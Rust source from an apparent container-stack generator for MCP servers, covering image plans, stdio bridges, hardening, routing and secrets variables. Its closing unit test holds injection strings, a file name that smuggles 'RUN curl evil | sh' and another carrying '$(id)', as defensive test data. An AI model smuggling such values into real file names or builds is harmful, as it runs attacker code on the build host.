//! From validated config to the resolved stack. Pure: the file system was read during validation.

use super::ports::FreePorts;
use super::*;
use crate::config::{self, validate::BuildFacts, Config, Facts, Scalar, Source};
use crate::units::{nginx_version_of_image, parse_duration, parse_version};
use std::collections::BTreeSet;

/// Where rendered Dockerfiles go, relative to the output folder.
pub fn dockerfile_path(name: &str) -> String {
    format!("build/{name}/Dockerfile")
}

/// From this many servers their components are made on two threads.
const PARALLEL_SERVERS: usize = 64;

pub fn resolve(c: &Config, facts: &Facts, source: &Source) -> Stack {
    let python_set = source
        .locations
        .exact(&config::KeyPath::of(&["images", "python"]))
        .is_some();
    let images = Plans {
        python: python_set.then_some(c.images.python.as_str()),
        python_default: &c.images.python,
    };
    // Each server's component is its own: a large stack makes them on two threads.
    let servers: Vec<_> = c.servers.iter().collect();
    let (first, second) = servers.split_at(servers.len() / 2);
    let make = |half: &[(&String, &config::Server)]| -> Vec<Component> {
        half.iter()
            .map(|(name, s)| server(c, &images, name, s, facts.builds.get(*name)))
            .collect()
    };
    let (mut components, rest) = crate::parallel::join(
        servers.len() >= PARALLEL_SERVERS,
        || make(first),
        || make(second),
    );
    components.extend(rest);
    for (name, s) in &c.services {
        components.push(service(c, &images, name, s, facts.builds.get(name)));
    }
    components.sort_by(|a, b| a.name.cmp(&b.name));
    link_dependencies(c, &mut components);
    assign_dev_ports(c, &mut components);

    let ports: BTreeMap<&str, Option<u16>> = components
        .iter()
        .map(|x| (x.name.as_str(), x.port))
        .collect();
    let routes = c
        .servers
        .iter()
        .map(|(name, s)| route(name, s, ports[name.as_str()]))
        .collect();
    let volumes: BTreeSet<String> = components
        .iter()
        .flat_map(|comp| {
            comp.mounts
                .iter()
                .filter(|m| m.named)
                .map(|m| m.source.clone())
        })
        .collect();
    let monitoring = c.monitoring.enabled.then(|| Monitoring {
        latency_threshold_secs: crate::units::parse_duration_ms(
            &c.monitoring.probe_latency_threshold,
        )
        .unwrap_or(2000) as f64
            / 1000.0,
        prometheus_port: c.monitoring.prometheus.port as u16,
        retention: c.monitoring.prometheus.retention.clone(),
        grafana_port: c.monitoring.grafana.port as u16,
        grafana_password_env: c.monitoring.grafana.admin_password_env.clone(),
        kubernetes_namespace: None,
    });
    let tunnel = c
        .tunnel
        .as_ref()
        .and_then(|t| t.cloudflare.as_ref())
        .map(|cf| Tunnel {
            token_env: cf.token_env.clone(),
        });
    let g = &c.gateway;
    let https_port = g.https_port as u16;
    let mut stack = Stack {
        name: c.name.clone(),
        config_file: header_name(&source.file_name()),
        output: crate::config::confine::normalise(&c.output),
        domain: c.domain.to_ascii_lowercase(),
        aliases: c.aliases.iter().map(|a| a.to_ascii_lowercase()).collect(),
        gateway: Gateway {
            bind: g.bind.clone(),
            publish: g.publish,
            http_port: g.http_port as u16,
            https_port,
            tls: Tls {
                mode: g.tls.mode,
                manual_cert: g.tls.cert.clone(),
                manual_key: g.tls.key.clone(),
                acme_email: g.tls.email.clone(),
                acme_names: acme_names(c),
            },
            auth_tokens_env: (g.auth.kind == config::AuthType::Bearer)
                .then(|| g.auth.tokens_env.clone()),
            rate_limit: (g.rate_limit.requests_per_second > 0).then(|| RateLimit {
                per_second: g.rate_limit.requests_per_second as u32,
                burst: g
                    .rate_limit
                    .burst
                    .unwrap_or(g.rate_limit.requests_per_second * 2) as u32,
            }),
            allow_origins: sorted(g.cors.allow_origins.clone()),
            max_body: g.max_body.to_ascii_lowercase(),
            nginx_version: nginx_version(c).unwrap_or((1, 27, 0)),
            https_suffix: if https_port == 443 {
                String::new()
            } else {
                format!(":{https_port}")
            },
            resolver: DOCKER_RESOLVER.into(),
            routes,
            access_log: g.access_log,
        },
        components,
        volumes: volumes.into_iter().collect(),
        images: c.images.clone(),
        monitoring,
        tunnel,
        registry: c.registry.clone(),
        variables: BTreeMap::new(),
    };
    stack.variables = variables(&stack);
    stack
}

/// The nginx version the gateway config must suit: the config key, else the image tag.
pub fn nginx_version(c: &Config) -> Option<(u32, u32, u32)> {
    match &c.gateway.nginx_version {
        Some(v) => parse_version(v),
        None => nginx_version_of_image(&c.images.nginx),
    }
}

/// Let's Encrypt certifies public DNS names only: no IPs, localhost, `.local` or wildcards
/// (the webroot challenge cannot prove a wildcard).
fn acme_names(c: &Config) -> Vec<String> {
    std::iter::once(&c.domain)
        .chain(&c.aliases)
        .map(|n| n.to_ascii_lowercase())
        .filter(|n| {
            n.parse::<std::net::IpAddr>().is_err()
                && n != "localhost"
                && !n.ends_with(".local")
                && !n.ends_with(".localhost")
                && !n.starts_with("*.")
        })
        .collect()
}

fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v.dedup();
    v
}

fn text_env(env: &BTreeMap<String, Scalar>) -> BTreeMap<String, String> {
    env.iter()
        .map(|(k, v)| (k.clone(), v.to_string()))
        .collect()
}

fn runtime_of(r: config::Runtime) -> Option<Runtime> {
    match r {
        config::Runtime::Python => Some(Runtime::Python),
        config::Runtime::Node => Some(Runtime::Node),
        _ => None,
    }
}

/// What the build plans need from `images`: the Python image when the config sets it.
struct Plans<'a> {
    python: Option<&'a str>,
    python_default: &'a str,
}

/// The image source of a component with `build` or `image`.
fn image_source(
    plans: &Plans,
    name: &str,
    build: Option<&BuildFacts>,
    image: Option<&str>,
) -> ImageSource {
    match (build, image) {
        (Some(b), _) => match runtime_of(b.runtime) {
            Some(runtime) => ImageSource::Rendered {
                folder: b.folder.clone(),
                runtime,
                dockerfile: dockerfile_path(name),
                plan: match runtime {
                    Runtime::Python => Plan::Python(super::build::python(
                        b.python.as_ref(),
                        plans.python,
                        plans.python_default,
                    )),
                    Runtime::Node => Plan::Node(super::build::node(b.node.as_ref())),
                },
            },
            None => ImageSource::OwnDockerfile {
                folder: b.folder.clone(),
            },
        },
        (None, Some(img)) => ImageSource::Prebuilt {
            image: img.to_string(),
        },
        (None, None) => unreachable!("validated: build or image"),
    }
}

/// The runtime a health check can rely on being in the image.
fn known_runtime(image: &ImageSource, declared: config::Runtime) -> Option<Runtime> {
    match image {
        ImageSource::Rendered { runtime, .. }
        | ImageSource::Bridged { runtime, .. }
        | ImageSource::Package { runtime, .. } => Some(*runtime),
        _ => runtime_of(declared),
    }
}

fn hardening(
    image: &ImageSource,
    read_only: Option<bool>,
    cap_add: &[String],
    tmpfs: &[String],
    user: Option<&String>,
) -> Hardening {
    let ours = matches!(
        image,
        ImageSource::Rendered { .. } | ImageSource::Bridged { .. } | ImageSource::Package { .. }
    );
    let read_only = read_only.unwrap_or(ours);
    let mut tmp: Vec<String> = tmpfs.to_vec();
    if read_only && !tmp.iter().any(|t| t == "/tmp") {
        tmp.push("/tmp".into());
    }
    Hardening {
        read_only,
        cap_add: sorted(cap_add.to_vec()),
        tmpfs: sorted(tmp),
        user: user.cloned(),
    }
}

fn dev_source(image: &ImageSource, mount: bool) -> Option<SourceMount> {
    match image {
        ImageSource::Rendered {
            folder, runtime, ..
        } if mount => Some(SourceMount {
            folder: folder.clone(),
            target: "/app".into(),
            keep: vec![match runtime {
                Runtime::Python => "/app/.venv".into(),
                Runtime::Node => "/app/node_modules".into(),
            }],
        }),
        _ => None,
    }
}

fn server(
    c: &Config,
    plans: &Plans,
    name: &str,
    s: &config::Server,
    build: Option<&BuildFacts>,
) -> Component {
    let port = s.port.unwrap_or(8000) as u16;
    let stdio = s.transport == config::Transport::Stdio;
    // A package's command (before the bridge): its own, or the one `command` picks, plus `args`.
    let mut package_run = None;
    let mut image = match s.package.as_deref().map(config::package::parse) {
        Some(Ok(reference)) => {
            let (runtime, base) = match reference.registry {
                config::package::Registry::Pypi => (Runtime::Python, &c.images.python),
                config::package::Registry::Npm => (Runtime::Node, &c.images.node),
            };
            let (plan, run) = super::build::package(
                &reference,
                base,
                c.packages.resolved_before.as_deref(),
                s.command.as_deref(),
                &s.args,
            );
            package_run = Some(run);
            ImageSource::Package {
                runtime,
                dockerfile: dockerfile_path(name),
                plan,
            }
        }
        Some(Err(_)) => unreachable!("validated: a pinned package reference"),
        None => image_source(plans, name, build, s.image.as_deref()),
    };
    if let (true, ImageSource::Prebuilt { image: base }) = (stdio, &image) {
        image = ImageSource::Bridged {
            base: base.clone(),
            runtime: runtime_of(s.runtime).unwrap_or(Runtime::Python),
            dockerfile: dockerfile_path(name),
            own: None,
        };
    }
    // The bridge needs the command the image would run: `command`, else its ENTRYPOINT + CMD.
    let own_facts = build.and_then(|b| b.dockerfile.as_ref());
    let mut child = package_run.or_else(|| s.command.clone());
    if let (true, ImageSource::OwnDockerfile { folder }, Some(facts)) = (stdio, &image, own_facts) {
        child = child.or_else(|| facts.command.clone());
        image = ImageSource::Bridged {
            base: base_tag(&c.name, name),
            runtime: facts
                .runtime
                .and_then(runtime_of)
                .expect("validated: the image has python or node"),
            dockerfile: dockerfile_path(name),
            own: Some(folder.clone()),
        };
    }
    let runtime = known_runtime(&image, s.runtime);
    let endpoint = endpoint(s);
    let effective = if stdio {
        config::Transport::StreamableHttp
    } else {
        s.transport
    };
    let bridge = match (stdio, runtime) {
        (true, Some(rt)) => Some(Bridge {
            runtime: rt,
            package: match rt {
                Runtime::Python => c.images.mcp_proxy.clone(),
                Runtime::Node => c.images.supergateway.clone(),
            },
            child: child.clone().unwrap_or_default(),
        }),
        _ => None,
    };
    let command = match &bridge {
        // The bridge runs from its own environment, in rendered and bridged images alike.
        Some(b) => Some(bridge_command(
            b,
            &format!("{BRIDGE_VENV}/bin/python"),
            port,
            &endpoint,
        )),
        None => child.clone(),
    };
    let health = match (s.health.as_str(), runtime) {
        ("mcp", Some(rt)) => Health::Mcp {
            runtime: rt,
            port,
            endpoint: endpoint.clone(),
            transport: effective,
        },
        (h, Some(rt)) if h.starts_with("http:") => Health::Http {
            runtime: rt,
            port,
            path: h["http:".len()..].to_string(),
        },
        _ => Health::None,
    };
    let mut env = text_env(&s.env);
    if !stdio {
        env.entry("PORT".into()).or_insert_with(|| port.to_string());
    }
    let mut dev_env = BTreeMap::new();
    dev_env.insert("LOG_LEVEL".to_string(), "DEBUG".to_string());
    if s.dev.mount_source
        && build.is_some_and(|b| b.src_layout && b.runtime == config::Runtime::Python)
    {
        // The mounted source wins over the installed copy.
        dev_env.insert("PYTHONPATH".to_string(), "/app/src".to_string());
    }
    Component {
        name: name.to_string(),
        role: Role::Server,
        health_in_image: matches!(
            image,
            ImageSource::Rendered { .. }
                | ImageSource::Bridged { .. }
                | ImageSource::Package { .. }
        ),
        built_tag: built_tag(&c.name, name, &image),
        hardening: hardening(&image, s.read_only, &s.cap_add, &s.tmpfs, s.user.as_ref()),
        dev: Dev {
            host_port: s.dev.port.map(|p| p as u16),
            source: dev_source(&image, s.dev.mount_source),
            env: dev_env,
        },
        image,
        command,
        bridge,
        port: Some(port),
        env,
        secrets: sorted(s.secrets.clone()),
        depends_on: Vec::new(),
        replicas: s.replicas as u32,
        resources: resources(s.resources.as_ref()),
        health,
        mounts: Vec::new(),
        docker_socket: s.docker_socket,
        autoscale: s.autoscale.as_ref().map(|a| Autoscale {
            min: a.min as u32,
            max: a.max as u32,
            cpu_percent: a.cpu_percent as u32,
        }),
    }
}

fn service(
    c: &Config,
    plans: &Plans,
    name: &str,
    s: &config::Service,
    build: Option<&BuildFacts>,
) -> Component {
    let image = image_source(plans, name, build, s.image.as_deref());
    let health = match &s.healthcheck {
        Some(test) if test.first().map(String::as_str) != Some("NONE") => {
            Health::Command { test: test.clone() }
        }
        _ => Health::None,
    };
    let mounts = s
        .volumes
        .iter()
        .map(|v| {
            let parts: Vec<&str> = v.split(':').collect();
            Mount {
                source: parts[0].to_string(),
                target: parts[1].to_string(),
                read_only: parts.get(2) == Some(&"ro"),
                named: !parts[0].starts_with("./"),
            }
        })
        .collect();
    Component {
        name: name.to_string(),
        role: Role::Service,
        built_tag: built_tag(&c.name, name, &image),
        hardening: hardening(&image, s.read_only, &s.cap_add, &s.tmpfs, s.user.as_ref()),
        dev: Dev {
            host_port: s.dev.port.map(|p| p as u16),
            source: dev_source(&image, s.dev.mount_source),
            env: BTreeMap::new(),
        },
        health_in_image: false,
        image,
        command: s.command.clone(),
        bridge: None,
        port: s.port.map(|p| p as u16),
        env: text_env(&s.env),
        secrets: sorted(s.secrets.clone()),
        depends_on: Vec::new(),
        replicas: 1,
        resources: resources(s.resources.as_ref()),
        health,
        mounts,
        docker_socket: false,
        autoscale: None,
    }
}

/// The tag of the image a project's own Dockerfile builds for the bridge to be layered on
/// (not `latest`: a rendered `FROM` names a fixed tag).
pub fn base_tag(project: &str, name: &str) -> String {
    format!("{project}-{name}-base:local")
}

fn built_tag(project: &str, name: &str, image: &ImageSource) -> Option<String> {
    match image {
        ImageSource::Prebuilt { .. } => None,
        _ => Some(format!("{project}-{name}:latest")),
    }
}

fn endpoint(s: &config::Server) -> String {
    match (s.transport, &s.endpoint) {
        (config::Transport::Stdio, _) => "/mcp".into(),
        (_, Some(e)) => e.clone(),
        (config::Transport::Sse, None) => "/sse".into(),
        (_, None) => "/mcp".into(),
    }
}

/// Runs the stdio server so that its own exit ends the container (the restart policy and the
/// health check see it). When the bridge stops a child, `sh` dies first and nothing else happens.
const EXIT_WITH_CHILD: &str = r#""$0" "$@"; kill -TERM 1"#;

/// mcp-proxy answers streamable HTTP with JSON only, which drops the progress notifications a
/// tool sends while it runs; its session manager is started with SSE responses instead.
const MCP_PROXY_SSE: &str = "import sys, mcp_proxy.mcp_server as s; \
base = s.StreamableHTTPSessionManager; \
s.StreamableHTTPSessionManager = type('SseSessionManager', (base,), {'__init__': lambda self, *a, **k: base.__init__(self, *a, **{**k, 'json_response': False})}); \
from mcp_proxy.__main__ import main; sys.exit(main())";

/// The bridge process that serves a stdio server over streamable HTTP.
fn bridge_command(b: &Bridge, python: &str, port: u16, endpoint: &str) -> Vec<String> {
    let mut cmd: Vec<String> = Vec::new();
    match b.runtime {
        Runtime::Python => {
            cmd.extend([python, "-c", MCP_PROXY_SSE].map(String::from));
            cmd.extend(["--host", "0.0.0.0", "--port"].map(String::from));
            cmd.push(port.to_string());
            cmd.extend(["--pass-environment", "--", "sh", "-c", EXIT_WITH_CHILD].map(String::from));
            cmd.extend(b.child.iter().cloned());
        }
        Runtime::Node => {
            cmd.extend(["supergateway", "--stdio"].map(String::from));
            // The server's stderr goes to the container's (`docker logs`), whatever the
            // bridge's log level.
            cmd.push(format!(
                "{} 2>/proc/1/fd/2; kill -TERM 1",
                shell_words::join(&b.child)
            ));
            cmd.extend(
                [
                    "--outputTransport",
                    "streamableHttp",
                    "--stateful",
                    "--port",
                ]
                .map(String::from),
            );
            cmd.push(port.to_string());
            cmd.push("--streamableHttpPath".into());
            cmd.push(endpoint.to_string());
            // The default level logs every message, tool arguments included.
            cmd.extend(["--healthEndpoint", "/healthz", "--logLevel", "none"].map(String::from));
        }
    }
    cmd
}

fn resources(r: Option<&config::Resources>) -> Option<Resources> {
    r.map(|r| Resources {
        cpus: r.cpus.as_ref().map(|c| c.to_string()),
        memory: r.memory.clone(),
    })
}

fn link_dependencies(c: &Config, comps: &mut [Component]) {
    let healthy: BTreeMap<String, bool> = comps
        .iter()
        .map(|x| (x.name.clone(), x.health.is_some()))
        .collect();
    for comp in comps.iter_mut() {
        let deps = match comp.role {
            Role::Server => &c.servers[&comp.name].depends_on,
            Role::Service => &c.services[&comp.name].depends_on,
        };
        let mut deps: Vec<Dependency> = deps
            .iter()
            .map(|d| Dependency {
                name: d.clone(),
                healthy: healthy[d],
            })
            .collect();
        deps.sort_by(|a, b| a.name.cmp(&b.name));
        deps.dedup_by(|a, b| a.name == b.name);
        comp.depends_on = deps;
    }
}

/// Dev host ports: the configured one, else the container port or the next free one above it.
fn assign_dev_ports(c: &Config, comps: &mut [Component]) {
    let mut free = FreePorts::default();
    free.take(c.gateway.http_port as u16);
    free.take(c.gateway.https_port as u16);
    if c.monitoring.enabled {
        free.take(c.monitoring.prometheus.port as u16);
        free.take(c.monitoring.grafana.port as u16);
    }
    for p in comps.iter().filter_map(|x| x.dev.host_port) {
        free.take(p);
    }
    for comp in comps.iter_mut() {
        if comp.dev.host_port.is_some() {
            continue;
        }
        if let Some(p) = comp.port {
            let p = free.first_free_from(p);
            free.take(p);
            comp.dev.host_port = Some(p);
        }
    }
}

fn route(name: &str, s: &config::Server, port: Option<u16>) -> Route {
    let replicas = s.replicas as u32;
    let balance = match (replicas, s.stateless) {
        (1, _) => Balance::Single,
        (_, true) => Balance::LeastConn,
        (_, false) => Balance::SessionAffinity,
    };
    Route {
        server: name.to_string(),
        path: s.path.clone().unwrap_or_else(|| format!("/{name}/")),
        host: name.to_string(),
        port: port.unwrap_or(8000),
        endpoint: endpoint(s),
        transport: if s.transport == config::Transport::Stdio {
            config::Transport::StreamableHttp
        } else {
            s.transport
        },
        timeout_secs: parse_duration(&s.timeout).unwrap_or(300),
        replicas,
        balance,
        replica_hosts: if balance == Balance::SessionAffinity {
            Replica::all(name, replicas)
        } else {
            Vec::new()
        },
    }
}

/// Everything read from the environment at run time.
fn variables(stack: &Stack) -> BTreeMap<String, Variable> {
    let mut vars: BTreeMap<String, Variable> = BTreeMap::new();
    let mut add = |name: &str, reader: &str, purpose: &str| {
        let v = vars.entry(name.to_string()).or_default();
        v.secret = true;
        v.readers.push(reader.to_string());
        if v.purpose.is_empty() {
            v.purpose = purpose.to_string();
        }
    };
    for comp in &stack.components {
        for s in &comp.secrets {
            add(s, &comp.name, "secret");
        }
    }
    if let Some(env) = &stack.gateway.auth_tokens_env {
        add(
            env,
            "gateway",
            "bearer tokens the gateway accepts, separated by commas or spaces",
        );
    }
    if let Some(m) = &stack.monitoring {
        add(&m.grafana_password_env, "grafana", "Grafana admin password");
    }
    if let Some(t) = &stack.tunnel {
        add(&t.token_env, "cloudflared", "Cloudflare tunnel token");
    }
    for comp in stack.components.iter().filter(|c| c.docker_socket) {
        let v = vars.entry(DOCKER_SOCKET_GID.to_string()).or_default();
        v.readers.push(comp.name.clone());
        v.purpose = format!(
            "group id of {DOCKER_SOCKET} on the host (`stat -c %g {DOCKER_SOCKET}`), not a secret"
        );
    }
    for v in vars.values_mut() {
        v.readers.sort();
        v.readers.dedup();
    }
    vars
}

/// The config's file name as generated files show it: a file name is not a config value and
/// is not escaped for any format, so only letters, digits and `._-+@` are kept, anything else
/// becomes `_` (a name with a newline cannot add lines to a script or a Dockerfile).
pub fn header_name(file_name: &str) -> String {
    let safe: String = file_name
        .chars()
        .map(|ch| {
            if ch.is_ascii_alphanumeric() || "._-+@".contains(ch) {
                ch
            } else {
                '_'
            }
        })
        .collect();
    if safe.is_empty() {
        "mcp-stack.yaml".into()
    } else {
        safe
    }
}

#[cfg(test)]
mod header_name_tests {
    use super::header_name;

    #[test]
    fn header_name_keeps_plain_names_and_defuses_the_rest() {
        assert_eq!(header_name("mcp-stack.yaml"), "mcp-stack.yaml");
        assert_eq!(header_name("prod.v2+eu@x.yml"), "prod.v2+eu@x.yml");
        assert_eq!(
            header_name("a\nRUN curl evil | sh\n.yaml"),
            "a_RUN_curl_evil___sh_.yaml"
        );
        assert_eq!(header_name("a\nb.yaml"), "a_b.yaml");
        assert_eq!(header_name("x\ny"), "x_y");
        assert_eq!(header_name("é $(id) `x`"), "____id___x_");
        assert_eq!(header_name(""), "mcp-stack.yaml");
    }
}
